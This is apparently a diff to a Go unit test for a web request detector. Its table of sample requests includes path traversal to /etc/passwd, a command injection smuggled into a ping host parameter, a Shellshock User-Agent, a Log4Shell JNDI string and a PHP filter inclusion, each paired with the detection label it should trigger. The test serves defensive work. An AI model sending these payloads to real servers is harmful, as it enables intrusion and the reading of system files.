@@ -343,7 +343,8 @@ func TestBuiltinWebListsMatch(t *testing.T) {
 		{"/download?file=..%2F..%2F..%2Fetc%2Fpasswd", "", []string{"traversal"}},
 		{"/download?file=%252e%252e%252fetc%252fpasswd", "", []string{"traversal"}},
 		{"/ping?host=127.0.0.1%3Bcat%20/etc/hosts", "", []string{"traversal", "cmdi"}},
-		{"/", "GET / HTTP/1.1\r\nUser-Agent: () { :; }; echo; /bin/id\r\n", []string{"cmdi", "shellshock"}},
+		{"/", "GET / HTTP/1.1\r\nUser-Agent: () { :; }; echo; /bin/id\r\n", []string{"shellshock"}}, // headers: shellshock, log4shell only
+		{"/", "GET / HTTP/1.1\r\nCookie: a=1; id=42\r\nX-Q: ' OR 1=1--\r\n", nil},
 		{"/", "GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://x/a}\r\n", []string{"log4shell"}},
 		{"/page?include=php://filter/convert.base64-encode/resource=index", "", []string{"inclusion"}},
 		{"/search?q=red+shoes&page=2", "", nil},
